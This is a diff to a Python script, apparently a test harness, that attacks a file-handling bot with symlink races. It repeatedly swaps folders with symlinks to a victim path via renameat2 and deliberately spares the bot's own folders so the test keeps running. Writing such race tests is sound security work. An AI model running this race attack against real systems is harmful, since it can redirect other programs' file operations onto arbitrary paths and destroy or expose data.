@@ -1,6 +1,6 @@
 """Exchanges folders and links below a folder, as fast as it can, until its input ends.
 
-Usage: attacker.py FOLDER VICTIM. Every folder that it meets below FOLDER is exchanged with a link to VICTIM, and sometimes back.
+Usage: attacker.py FOLDER VICTIM. Every folder that it meets below FOLDER is exchanged with a link to VICTIM, and mostly back.
 Prints the number of exchanges at its end.
 """
 
@@ -10,47 +10,55 @@ import random
 import select
 import sys
 
-AT_FDCWD = -100
 RENAME_EXCHANGE = 2
 DEPTH_MAX = 5
+# The bot's own folders are always exchanged back: otherwise it would refuse to work at all from the first exchange on.
+OWN = (b".orb", b"trash", b"fences")
+FOLDER_FLAGS = os.O_RDONLY | os.O_DIRECTORY | os.O_NOFOLLOW
 
 libc = ctypes.CDLL(None, use_errno=True)
-folder, victim = (os.fsencode(each) for each in sys.argv[1:])
+top, victim = (os.fsencode(each) for each in sys.argv[1:])
 exchanges = 0
 
 
-def exchange(first, second):
+def exchange(folder, first, second):
     global exchanges
-    if libc.renameat2(AT_FDCWD, first, AT_FDCWD, second, RENAME_EXCHANGE) == 0:
+    if libc.renameat2(folder, first, folder, second, RENAME_EXCHANGE) == 0:
         exchanges += 1
 
 
-def attack(path, depth):
+def attack(folder, depth):
+    """Works by descriptor, so that its own links do not lead it to the victim."""
     try:
-        entries = list(os.scandir(path))
+        names = [os.fsencode(name) for name in os.listdir(folder)]
     except OSError:
         return
-    random.shuffle(entries)
-    for entry in entries:
+    random.shuffle(names)
+    for name in names:
+        if name.endswith(b"~"):
+            continue
         try:
-            is_folder = entry.is_dir(follow_symlinks=False)
+            inner = os.open(name, FOLDER_FLAGS, dir_fd=folder)
         except OSError:
             continue
-        if not is_folder:
-            continue
-        link = entry.path + b"~"
         try:
-            os.symlink(victim, link)
-        except OSError:
-            pass
-        exchange(entry.path, link)
-        if random.random() < 0.7:
-            exchange(entry.path, link)
-        if depth < DEPTH_MAX:
-            attack(entry.path, depth + 1)
+            link = name + b"~"
+            try:
+                os.symlink(victim, link, dir_fd=folder)
+            except OSError:
+                pass
+            exchange(folder, name, link)
+            if name in OWN or random.random() < 0.7:
+                exchange(folder, name, link)
+            if depth < DEPTH_MAX:
+                attack(inner, depth + 1)
+        finally:
+            os.close(inner)
 
 
 print("ready", flush=True)
 while not select.select([sys.stdin], [], [], 0)[0]:
-    attack(folder, 0)
+    start = os.open(top, FOLDER_FLAGS)
+    attack(start, 0)
+    os.close(start)
 print(exchanges, flush=True)
